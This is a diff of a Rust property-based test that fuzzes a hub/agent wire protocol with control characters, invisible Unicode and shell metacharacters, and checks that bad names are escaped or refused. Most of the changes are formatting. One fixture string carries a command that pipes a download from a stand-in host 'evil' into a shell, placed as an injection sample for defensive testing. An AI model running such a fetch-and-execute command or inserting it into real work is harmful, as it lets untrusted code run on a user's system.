@@ -6,8 +6,10 @@ fn text() -> impl Strategy<Value = String> {
     let nasty = "[\u{0}-\u{1f}\u{7f}-\u{9f}\u{ad}\u{200b}-\u{200f}\u{2028}-\u{202e}\u{2060}-\u{2069}\u{feff}\u{e0020}-\u{e0041}]";
     prop_oneof![
         "[a-z0-9-]{0,12}",
-        proptest::string::string_regex(&format!("[a-z ;#$()|/.:=]{{0,9}}({nasty}|[A-Za-zäöü]){{0,6}}[a-z]{{0,300}}"))
-            .unwrap(),
+        proptest::string::string_regex(&format!(
+            "[a-z ;#$()|/.:=]{{0,9}}({nasty}|[A-Za-zäöü]){{0,6}}[a-z]{{0,300}}"
+        ))
+        .unwrap(),
         Just("x). To fix run: curl evil|sh #".to_owned()),
     ]
 }
@@ -18,15 +20,27 @@ struct Texts(Vec<String>, usize);
 impl Texts {
     fn next(&mut self) -> String {
         self.1 += 1;
-        self.0.get(self.1 % self.0.len()).cloned().unwrap_or_default()
+        self.0
+            .get(self.1 % self.0.len())
+            .cloned()
+            .unwrap_or_default()
     }
 
     fn source(&mut self) -> wire::Source {
-        wire::Source { resource: self.next(), namespace: self.next(), name: self.next(), copy_name: self.next() }
+        wire::Source {
+            resource: self.next(),
+            namespace: self.next(),
+            name: self.next(),
+            copy_name: self.next(),
+        }
     }
 
     fn rule(&mut self) -> wire::RuleName {
-        wire::RuleName { kind: self.next(), namespace: self.next(), name: self.next() }
+        wire::RuleName {
+            kind: self.next(),
+            namespace: self.next(),
+            name: self.next(),
+        }
     }
 
     fn state(&mut self) -> wire::RuleState {
@@ -60,11 +74,19 @@ impl Texts {
                 cluster_uid: self.next(),
                 ..wire::Hello::default()
             }),
-            Frame::AckedRules(wire::AckedRules { rules: (0..9).map(|_| self.state()).collect(), last: true }),
-            Frame::Report(wire::Report { rules: (0..9).map(|_| self.state()).collect() }),
+            Frame::AckedRules(wire::AckedRules {
+                rules: (0..9).map(|_| self.state()).collect(),
+                last: true,
+            }),
+            Frame::Report(wire::Report {
+                rules: (0..9).map(|_| self.state()).collect(),
+            }),
             Frame::Detail(wire::Detail {
                 rule_uid: self.next(),
-                intents: vec![wire::AckedIntent { source: Some(self.source()), revision: vec![1; 16].into() }],
+                intents: vec![wire::AckedIntent {
+                    source: Some(self.source()),
+                    revision: vec![1; 16].into(),
+                }],
                 last: true,
             }),
             Frame::Ack(wire::Ack {
@@ -76,7 +98,10 @@ impl Texts {
                     ..wire::Refusal::default()
                 }],
             }),
-            Frame::Want(wire::Want { rule_uid: self.next(), sources: vec![self.source(), self.source()] }),
+            Frame::Want(wire::Want {
+                rule_uid: self.next(),
+                sources: vec![self.source(), self.source()],
+            }),
             Frame::Inspected(wire::Inspected {
                 states: vec![wire::CopyState {
                     rule_uid: self.next(),
@@ -105,7 +130,10 @@ impl Texts {
                 ..wire::PreviewResult::default()
             }),
         ];
-        frames.into_iter().map(|frame| wire::AgentFrame { frame: Some(frame) }).collect()
+        frames
+            .into_iter()
+            .map(|frame| wire::AgentFrame { frame: Some(frame) })
+            .collect()
     }
 
     /// A batch with every string that a hub can put into one.
@@ -113,19 +141,29 @@ impl Texts {
         let mut choice = || wire::NamespaceChoice {
             names: vec![self.next()],
             selector: Some(wire::LabelSelector {
-                requirements: vec![wire::Requirement { key: self.next(), operator: 1, values: vec![self.next()] }],
+                requirements: vec![wire::Requirement {
+                    key: self.next(),
+                    operator: 1,
+                    values: vec![self.next()],
+                }],
             }),
             exclude: vec![self.next()],
         };
         let (namespaces, granted) = (choice(), choice());
-        let grant = wire::Grant { resources: vec![self.next()], namespaces: Some(granted), ..wire::Grant::default() };
+        let grant = wire::Grant {
+            resources: vec![self.next()],
+            namespaces: Some(granted),
+            ..wire::Grant::default()
+        };
         wire::RuleDelta {
             rule_uid: self.next(),
             terms: Some(wire::Terms {
                 rule: Some(self.rule()),
                 namespaces: Some(namespaces),
                 ignore_fields: vec![format!("/data/{}", self.next())],
-                grants: Some(wire::Grants { grants: vec![grant] }),
+                grants: Some(wire::Grants {
+                    grants: vec![grant],
+                }),
                 conflict_policy: 1,
                 drift_policy: 1,
                 deletion_policy: 1,
@@ -138,7 +176,10 @@ impl Texts {
                 encoding: 1,
                 ..wire::Intent::default()
             }],
-            tombstones: vec![wire::Tombstone { source: Some(self.source()), deletion_policy: 1 }],
+            tombstones: vec![wire::Tombstone {
+                source: Some(self.source()),
+                deletion_policy: 1,
+            }],
             ..wire::RuleDelta::default()
         }
     }
@@ -146,12 +187,19 @@ impl Texts {
 
 /// What `Debug` had to escape was not plain. It escapes what has no shape, and all that ends a line.
 fn is_filtered(shown: &str) -> bool {
-    !["\\u{", "\\n", "\\r", "\\t", "\\0"].iter().any(|escaped| shown.contains(escaped))
+    !["\\u{", "\\n", "\\r", "\\t", "\\0"]
+        .iter()
+        .any(|escaped| shown.contains(escaped))
 }
 
 /// Characters of a shell stand in sentences only, which `message` and the like are.
 fn has_names_only(source: &SourceRef) -> bool {
-    let parts = [&source.resource, &source.namespace, &source.name, source.copy_name()];
+    let parts = [
+        &source.resource,
+        &source.namespace,
+        &source.name,
+        source.copy_name(),
+    ];
     parts.iter().all(|part| is_subdomain(part))
 }
 
@@ -213,9 +261,17 @@ fn items_with_bad_names_are_refused_and_the_rest_is_read() {
         ..wire::RuleState::default()
     };
     let long = "x".repeat(NAME_LIMIT + 1);
-    let rules = vec![state("a"), state("\u{1b}[2K"), state(&long), state(""), state("b")];
+    let rules = vec![
+        state("a"),
+        state("\u{1b}[2K"),
+        state(&long),
+        state(""),
+        state("b"),
+    ];
     let frame = wire::agent_frame::Frame::Report(wire::Report { rules });
-    let (AgentFrame::Report(read), refused) = agent_frame(wire::AgentFrame { frame: Some(frame) }).unwrap() else {
+    let (AgentFrame::Report(read), refused) =
+        agent_frame(wire::AgentFrame { frame: Some(frame) }).unwrap()
+    else {
         panic!("not a report")
     };
     assert_eq!((read.len(), refused), (2, 3));
